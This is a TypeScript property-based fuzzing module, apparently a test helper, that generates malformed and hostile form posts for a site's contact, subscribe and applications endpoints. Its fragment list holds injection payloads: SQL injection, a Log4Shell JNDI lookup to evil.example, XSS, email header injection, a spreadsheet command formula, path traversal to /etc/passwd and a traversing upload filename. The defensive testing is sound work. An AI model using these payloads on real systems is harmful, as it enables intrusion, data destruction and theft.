import fc from 'fast-check';

/** A post like that of an attacker, a broken client or a fuzzer. */
export interface HostilePost {
  url: string;
  headers: Record<string, string>;
  payload: string | Buffer;
}

const FRAGMENTS = [
  `'; DROP TABLE enquiry; --`,
  `" OR 1=1 --`,
  `\${jndi:ldap://evil.example/a}`,
  `<script>alert(1)</script>`,
  `"><img src=x onerror=alert(1)>`,
  `</textarea><form action=//evil.example>`,
  `Ada\r\nBcc: all@example.com`,
  `ada@example.com\nSubject: x\n\nbody`,
  `ada@example.com%0d%0aBcc:x@example.com`,
  `=cmd|' /C calc'!A0`,
  `../../../../etc/passwd`,
  `\0`,
  `\u202Egpj.exe`,
  `\uD800`,
  `\uFEFF`,
  `__proto__`,
  `{{7*7}}`,
  `%00%ff`,
  `\u{1F468}\u200D\u{1F469}\u200D\u{1F467}`.repeat(50),
  'e\u0301'.repeat(300),
];
const VALID: Record<string, string> = {
  name: 'Ada Lovelace',
  email: 'ada@example.com',
  company: '',
  topic: 'robotics',
  role: 'engineer',
  links: 'https://ada.example',
  message: 'Hello.',
  consent: 'yes',
  contract: '',
  idempotencyKey: '',
  elapsedMs: '9000',
  website: '',
};
const PDF = '%PDF-1.7\n%%EOF\n';
const URLS = ['/api/contact', '/api/subscribe', '/api/applications'];

const text = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...FRAGMENTS) },
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 300 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 300 }) },
  { weight: 1, arbitrary: fc.nat({ max: 1_500_000 }).map((length) => 'x'.repeat(length)) },
);
const typed = fc.oneof(
  { weight: 3, arbitrary: text },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

/** A valid form with some fields replaced: a post with one error passes the most checks. */
const fields = <T>(value: fc.Arbitrary<T>): fc.Arbitrary<Record<string, T | string>> =>
  fc
    .tuple(
      fc.dictionary(fc.oneof(fc.constantFrom(...Object.keys(VALID)), fc.string({ maxLength: 20 })), value, {
        maxKeys: 3,
      }),
      fc.nat(2 ** 31),
    )
    .map(([changes, seed]) => ({ ...VALID, message: `Hello ${seed}.`, ...changes }));

const json = fields(typed).map((values) => post('application/json', JSON.stringify(values)));
const encoded = fields(text).map((values) => post('application/x-www-form-urlencoded', encode(values)));
const multipart = fc
  .tuple(
    fields(text),
    fc.oneof(
      fc.constant(PDF),
      fc.constantFrom('', 'MZ', PDF.slice(0, 8)),
      fc.string({ unit: 'binary', maxLength: 2_000 }),
    ),
  )
  .map(([values, file]) => post('multipart/form-data; boundary=b', toMultipart(values, file)));
const garbage = fc
  .tuple(
    fc.constantFrom(
      'application/json',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=b',
      'multipart/form-data',
      'text/plain',
      '',
    ),
    fc.uint8Array({ maxLength: 3_000 }),
  )
  .map(([type, bytes]) => post(type, Buffer.from(bytes)));

/** Posts of all kinds to all forms, accepting JSON or HTML. */
export const hostilePosts: fc.Arbitrary<HostilePost> = fc
  .tuple(
    fc.constantFrom(...URLS),
    fc.constantFrom('application/json', 'text/html', '*/*'),
    fc.oneof(
      { weight: 4, arbitrary: json },
      { weight: 3, arbitrary: encoded },
      { weight: 2, arbitrary: multipart },
      { weight: 1, arbitrary: garbage },
    ),
  )
  .map(([url, accept, request]) => ({
    url,
    headers: { ...request.headers, accept },
    payload: request.payload,
  }));

function post(type: string, payload: string | Buffer): Omit<HostilePost, 'url'> {
  return { headers: type === '' ? {} : { 'content-type': type }, payload };
}

function encode(values: Record<string, string>): string {
  return Object.entries(values)
    .map(
      ([name, value]) =>
        `${encodeURIComponent(name.toWellFormed())}=${encodeURIComponent(value.toWellFormed())}`,
    )
    .join('&');
}

function toMultipart(values: Record<string, string>, file: string): Buffer {
  const parts = Object.entries(values).map(
    ([name, value]) => `--b\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`,
  );
  const cv = `--b\r\nContent-Disposition: form-data; name="cv"; filename="../cv.pdf"\r\nContent-Type: application/pdf\r\n\r\n${file}\r\n`;
  return Buffer.from(`${parts.join('')}${cv}--b--\r\n`);
}
